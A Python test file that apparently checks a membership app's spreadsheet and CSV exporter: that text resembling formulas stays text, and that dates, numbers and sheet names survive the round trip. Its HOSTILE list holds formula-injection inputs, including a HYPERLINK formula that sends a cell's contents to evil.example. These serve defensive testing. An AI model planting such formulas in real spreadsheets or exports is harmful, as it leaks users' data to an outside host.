"""Formula injection (issue 16, defect 4): the one .xlsx writer keeps text as text; numbers keep their types."""

import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook

from membercare.core.xlsx import write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&C2,"点此")', "+86-138", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
           "=1+1"]


def formulas(workbook) -> list[str]:
    return [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_text_that_looks_like_a_formula_is_written_as_text():
    out = write_xlsx([("会员", ["备注", "金额", "日期"], [[text, Decimal("12.50"), dt.date(2026, 1, 2)]
                                                        for text in HOSTILE])])
    workbook = load_workbook(out)
    assert formulas(workbook) == []
    rows = list(workbook.active.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == HOSTILE  # exactly what was typed, a carriage return included
    assert rows[0][1] == 12.5 and rows[0][2].date() == dt.date(2026, 1, 2)


def test_the_writer_is_what_a_spreadsheet_reader_sees_as_text():
    out = write_xlsx([("S", ["a"], [["=1+1"]])])
    cell = load_workbook(io.BytesIO(out.read())).active["A2"]
    assert cell.data_type == "s" and cell.value == "=1+1"


def test_every_type_reads_back_as_written_and_the_header_is_bold_and_frozen():
    when = dt.datetime(2026, 3, 4, 5, 6, 7)
    values = ["王小明", " 前后空格 ", "a&b<c>d\"e'f", 42, -7, 3.25, Decimal("1234.50"), True, False,
              dt.date(1990, 1, 31), when, None, "", "x" * 40000, "控制\x01字符\x1f"]
    out = write_xlsx([("会员", [f"列{i}" for i in range(len(values))], [values])])
    sheet = load_workbook(out).active
    got = [c.value for c in sheet[2]]
    assert got[:9] == ["王小明", " 前后空格 ", "a&b<c>d\"e'f", 42, -7, 3.25, 1234.5, True, False]
    assert got[9] == dt.datetime(1990, 1, 31) and sheet.cell(2, 10).number_format == "yyyy-mm-dd"
    assert got[10] == when
    assert got[11] is None and got[12] is None
    assert got[13] == "x" * 32767  # Excel's limit for one cell
    assert got[14] == "控制字符"  # characters XML cannot carry are dropped, the rest kept
    assert all(c.font.b for c in sheet[1]) and not sheet.cell(2, 1).font.b
    assert sheet.freeze_panes == "A2"


def test_aware_datetimes_are_written_in_local_time():
    from django.utils import timezone

    aware = dt.datetime(2026, 1, 1, 0, 30, tzinfo=dt.UTC)
    sheet = load_workbook(write_xlsx([("S", ["t"], [[aware]])])).active
    assert sheet["A2"].value == timezone.localtime(aware).replace(tzinfo=None)  # 08:30 in Shanghai


def test_several_sheets_with_awkward_titles_and_rows_of_any_length():
    sheets = [("成员/明细:[1]", ["a", "b"], [[1, 2], [3], [4, 5, 6]]), ("成员/明细:[1]", ["c"], iter([["x"]])),
              ("", ["d"], [])]
    workbook = load_workbook(write_xlsx(sheets))
    assert workbook.sheetnames == ["成员_明细__1_", "成员_明细__1__2", "Sheet"]
    first = workbook.worksheets[0]
    assert [[c.value for c in row] for row in first.iter_rows(min_row=2)] == [[1, 2, None], [3, None, None],
                                                                          [4, 5, 6]]
    assert workbook.worksheets[1]["A2"].value == "x" and workbook.worksheets[2].max_row == 1


def test_csv_keeps_text_as_text_and_reads_in_excel():
    import csv
    import io

    from membercare.core.xlsx import write_csv

    out = write_csv(["备注", "金额", "日期", "时间"], [[text, Decimal("12.50"), dt.date(2026, 1, 2),
                                                    dt.datetime(2026, 1, 2, 3, 4, 5)] for text in HOSTILE])
    raw = out.read()
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["备注", "金额", "日期", "时间"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]  # never a formula
    assert rows[1][1:] == ["12.50", "2026-01-02", "2026-01-02 03:04:05"]


def test_numpy_numbers_are_numbers_and_old_dates_read_back_as_written():
    """numpy's floats and integers are written as numbers (not "np.float64(…)" nor text); Excel's 1900 date
    system counts a 29 February 1900 that never was, so dates before 1 March 1900 are a day apart from later
    ones, and it has no day before 1900: such a date is written as its text."""
    import numpy as np

    dates = [dt.date(1900, 1, 1), dt.date(1900, 2, 28), dt.date(1900, 3, 1), dt.date(1899, 12, 31)]
    out = write_xlsx([("S", ["f", "i", "d1", "d2", "d3", "d4", "t"],
                       [[np.float64(0.1), np.int64(7), *dates, dt.datetime(1900, 2, 28, 12, 0)]])])
    sheet = load_workbook(out).active
    row = next(sheet.iter_rows(min_row=2, values_only=True))
    assert row[0] == 0.1 and isinstance(row[0], float)
    assert row[1] == 7 and isinstance(row[1], int)
    assert [v.date() for v in row[2:5]] == dates[:3]
    assert row[5] == "1899-12-31"
    assert row[6] == dt.datetime(1900, 2, 28, 12, 0)


def test_sheet_names_excel_refuses_are_mended():
    out = write_xlsx([("'引号'", ["a"], [[1]]), ("History", ["a"], [[1]]), ("''", ["a"], [[1]])])
    assert load_workbook(out).sheetnames == ["引号", "History_1", "Sheet"]
